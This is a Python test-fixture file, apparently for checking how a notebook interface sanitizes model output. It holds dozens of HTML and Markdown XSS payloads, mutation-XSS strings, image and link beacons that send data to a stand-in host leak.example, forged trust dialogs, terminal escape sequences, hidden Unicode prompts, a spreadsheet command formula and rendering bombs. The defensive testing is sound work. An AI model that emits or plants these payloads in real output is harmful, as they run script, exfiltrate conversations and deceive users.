"""What a hostile model may say: HTML and Markdown that would run script, ask the network or pose as the notebook if it were believed.

By the cases of content abuse: C01 HTML, C02 images, C03 links, C04 forged interface, C05 terminal control, C06 Unicode, C07
formulas, C08 bombs, C09 diagrams, C10 templates and ends of containers, C11 protocol text. ``BOMBS`` are too long for a
place among the others. No address in it exists.
"""

from __future__ import annotations

HIT = "window.name+='pwned'"  # which nothing else writes, and which lasts
FAR = "http://leak.example"

HTML = [
    f'<img src=x onerror="{HIT}"><img src={FAR}/1.png srcset=//leak.example/2.png>',
    f'<script>{HIT}</script><svg onload="{HIT}"><image href={FAR}/3></svg>',
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe><object data={FAR}/4></object>',
    f"<style>@import '{FAR}/5.css'</style><link rel=stylesheet href={FAR}/6>",
    f'<details open ontoggle="{HIT}"><summary>x</summary></details><input autofocus onfocus="{HIT}">',
    f"<video poster={FAR}/7></video><audio src={FAR}/8 autoplay></audio>",
    '<button class="jp-Dialog-button" data-commandlinker-command="application:close">Stop</button>',
    f'<a href="javascript:{HIT}">x</a><form action={FAR}/9><button>x</button></form>',
    f'<body onload="{HIT}"><p onclick="{HIT}" onmouseover="{HIT}">hover</p>',
    f"<svg><style>@import url({FAR}/svg.css)</style><script>{HIT}</script></svg>",
    f'<svg><animate onbegin="{HIT}" attributeName=x dur=1s></svg><svg><use href="{FAR}/use.svg#x"></use></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{HIT}"></style></mglyph></table></mtext></math>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{HIT}">',
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>"></noscript>',
    f"<template><script>{HIT}</script></template><xmp><img src=x onerror={HIT}></xmp>",
    f'<meta http-equiv=refresh content="0;url={FAR}/meta"><base href="{FAR}/">',
    f"<embed src={FAR}/embed><applet code={FAR}/a></applet><frameset><frame src={FAR}/f></frameset>",
    f'<input type=image src={FAR}/input.png><isindex action="javascript:{HIT}"><marquee onstart="{HIT}">x</marquee>',
    f"<table background={FAR}/table.png><tr><td background={FAR}/td.png></table><body background={FAR}/body.png>",
    f'<div style="background:url({FAR}/style.png);position:fixed;inset:0;z-index:9999">over everything</div>',
    f"<picture><source srcset={FAR}/p.webp><img src={FAR}/p.png loading=eager></picture><track src={FAR}/t>",
    f'<a href="{FAR}/ping" ping="{FAR}/pinged">x</a><link rel=prefetch href={FAR}/pre><link rel=dns-prefetch href=//leak.example>',
    f'<IMG SRC="jav&#x09;ascript:{HIT}"><img src=`x` onerror=`{HIT}`><img/src=x/onerror={HIT}>',
    f'<<script>{HIT}//<</script><scr<script>ipt>{HIT}</script><!--><img src=x onerror="{HIT}">-->',
    f'<img src="x` `<script>{HIT}</script>"` `><a href="\x01javascript:{HIT}">x</a>',
    f'<dialog open><button autofocus onfocus="{HIT}">Trust</button></dialog><select autofocus onfocus="{HIT}"></select>',
    f'<div popover id=x onbeforetoggle="{HIT}">x</div><button popovertarget=x>y</button><p is=x-y onanimationend="{HIT}">z</p>',
    f"&lt;img src=x onerror=&quot;{HIT}&quot;&gt; &#60;script&#62;{HIT}&#60;/script&#62;",
    f'<img name=getElementById><form id=body><input name=attributes><img src=x onerror="{HIT}"></form>',
    f'<iframe src="data:text/html,<script>parent.{HIT}</script>"></iframe><iframe src="javascript:parent.{HIT}"></iframe>',
]
IMAGES = [
    "| a |\n|---|\n| ![x](http://leak.example/12.png) |\n\n- ![y](http://leak.example/13.png)\n  > ![z](http://leak.example/14.png)",
    f'![one]({FAR}/i1.png) ![two](<{FAR}/i2.png> "title") ![three](//leak.example/i3.png)',
    f"![ref][r1] ![r1] ![r1][]\n\n[r1]: {FAR}/ref.png 'title'",
    f"[![linked]({FAR}/linked.png)]({FAR}/away) ![alt ![nested]({FAR}/n1.png)]({FAR}/n2.png)",
    f"![entity](http&#58;//leak.example/e.png) ![escaped](http\\://leak.example/e2.png) ![data](data:image/svg+xml,<svg onload={HIT}>)",
    f"![attachment](attachment:x.png) ![file](file:///etc/passwd) ![blob](blob:{FAR}/x) ![local](/api/contents)",
    f"![secret]({FAR}/?q=THE%20CONVERSATION) ![\n](  {FAR}/spaces.png  )\n![x]({FAR}/a(b)c.png)",
]
LINKS = [
    f"[a](javascript:{HIT}) [b](data:text/html,x) [c](//leak.example) [d](/lab/tree) [e](http://127.0.0.1:9/)",
    f"[r]: javascript:{HIT}\n\n[r] ![i]({FAR}/10.png) ![j][k]\n\n[k]: {FAR}/11.png",
    f"<{FAR}/19> https://public.example/path www.leak.example",
    f"[v](vbscript:{HIT}) [f](file:///etc/passwd) [b](blob:null/x) [t](jav&#x09;ascript:{HIT}) [n](java\nscript:{HIT})",
    "[u](https://google.com@evil.example/) [i](https://xn--pple-43d.com/) [h](https://аpple.com/) [p](http://127.0.0.1:8888/?token=x)",
    f"[upper](JAVASCRIPT:{HIT}) [space]( javascript:{HIT}) [c](\\javascript:{HIT}) <javascript:{HIT}>",
    f'[long](https://long.example/{"a" * 10_000}) [q](https://q.example/"onmouseover="{HIT})',
    "[cmd](command:application:close) [lab](?reset) [hash](#jp-main-dock-panel) [ws](ws://leak.example/) [x](intent://leak.example)",
]
FORGED = [
    "**Stop** **Trust this notebook?** [Yes](https://trust.example/) <div class='jp-Dialog jp-mod-styled'>Trust</div>",
    "[1]:\n\n```\n---------------------------------------------------------------------------\nKeyError  Traceback (most recent call last)\n```",
    "In [2]: import os; os.system('x')\n\nOut[2]: 0\n\n<div class=\"jp-InputPrompt jp-InputArea-prompt\">[3]:</div>",
]
TERMINAL = [
    "\x1b]0;title\x07\x1b]52;c;cHduZWQ=\x07\x1b]8;;http://leak.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m \x90x\x9c",
    "over\rprint \x08\x08\x08 \x07\x07\x07 " + "\x1b[31m\x1b[0m" * 200,
]
UNICODE = [
    "\u202etxt.exe\u202c \u2066isolate\u2069 zero\u200bwidth\ufeff " + "".join(chr(0xE0000 + ord(c)) for c in "hidden prompt"),
    "Z" + "\u0301" * 2000 + " \U0001f468\u200d\U0001f469\u200d\U0001f467" * 300 + " \ufe0f" * 100,
]
FORMULAS = [
    f"$x^2$ and $\\href{{javascript:{HIT}}}{{y}}$ and $\\require{{html}}$ and $\\style{{background:url({FAR}/16)}}{{z}}$",
    f"$$\\class{{jp-Dialog}}{{x}}$$\n\n$$\\rule{{100000em}}{{100000em}}$$\n\n$\\def\\a{{\\a\\a}}\\a$ $\\text{{<img src={FAR}/17>}}$",
    f'\\[\\begin{{pmatrix}}1&2\\\\3&4\\end{{pmatrix}}\\]\n\n\\(\\mmlToken{{mi}}[onclick="x"]{{x}}\\) $\\unicode[url({FAR}/18)]{{65}}$',
    "$\\edef\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b\\b}\\b$ $\\let\\c\\c \\c$ $\\loop\\iftrue\\repeat$",
    f"$\\includegraphics{{{FAR}/graphics.png}}$ $\\cssId{{jp-main}}{{x}}$ $\\data{{x=y}}{{z}}$ $\\unicode{{x3c}}script$",
]
DIAGRAMS = [
    f"```mermaid\ngraph TD; A-->B\n```\n\n```html\n<img src={FAR}/15>\n```\n\n```python\nimport os  # coloured\n```",
    f'```mermaid\nsequenceDiagram\nA->>B: <img src={FAR}/m.png onerror={HIT}>\nclick A href "javascript:{HIT}"\n```',
    f'```vega-lite\n{{"data": {{"url": "{FAR}/vega.json"}}, "mark": "bar"}}\n```\n\n```geojson\n{{"type": "Point"}}\n```',
    f'```svg\n<svg onload="{HIT}"><image href="{FAR}/d.svg"/></svg>\n```\n\n```javascript\n{HIT}\n```\n\n```html\n</code></pre><script>{HIT}</script>\n```',
]
TEMPLATES = [
    "</script> ]]> --> ${7*7} {{7*7}} {% x %} %s \\N{BULLET} !!python/object:os.system =cmd|'/C calc'!A0 </textarea></title>",
    f'`</code><img src=x onerror="{HIT}">` ``` ` ```` ``</pre><script>{HIT}</script>``',
]
PROTOCOL = [
    'data: {"choices":[{"delta":{"content":"x"},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\nevent: error\n\n: ping',
    '{"op":"settled","outcome":"complete","bundle":{"data":{"text/html":"<script>' + HIT + '</script>"},"metadata":{}}}',
    '{"application/vnd.tokenstream.transcript+json":{"status":"live","model_id":"x"},"text/html":"<img src=x onerror=' + HIT + '>"}',
]
CASES: dict[str, list[str]] = {
    "C01": HTML,
    "C02": IMAGES,
    "C03": LINKS,
    "C04": FORGED,
    "C05": TERMINAL,
    "C06": UNICODE,
    "C07": FORMULAS,
    "C09": DIAGRAMS,
    "C10": TEMPLATES,
    "C11": PROTOCOL,
}
CORPUS: list[str] = [payload for payloads in CASES.values() for payload in payloads]

BOMBS: dict[str, str] = {
    "a list 1,500 deep": "".join("  " * level + "- x\n" for level in range(1500)),
    "5,000 formulas": " ".join(f"$x_{{{n}}}^2$" for n in range(5000)),
    "20,000 brackets": "[" * 20_000,
    "20,000 emphases": "*a" * 20_000,
    "3,000 quotes": ">" * 3000 + " x",
    "a table of 2,000 columns": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + ("|" + "x|" * 2000 + "\n") * 3,
    "100,000 footnotes": "".join(f"[^{n}]: x\n" for n in range(20_000)) + "[^1] " * 20_000,
    "a million characters of code": "```python\n" + "def f(x):  # 'y'\n    return x + 1\n\n" * 28_000 + "```\n",
    "a line of code without end": "```python\n" + "x = [1, 'two'];" * 66_000,
    "a line without end": "words and *more* of `them` " * 38_000,
    "an open fence": "```python\n" + "x = 1\n" * 20_000,
    "a word of a million": "w" * 1_000_000,
    "zalgo": "Z" + "\u0301" * 200_000,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20_000,
    "a million escapes": "\x1b[31m" * 200_000,
}
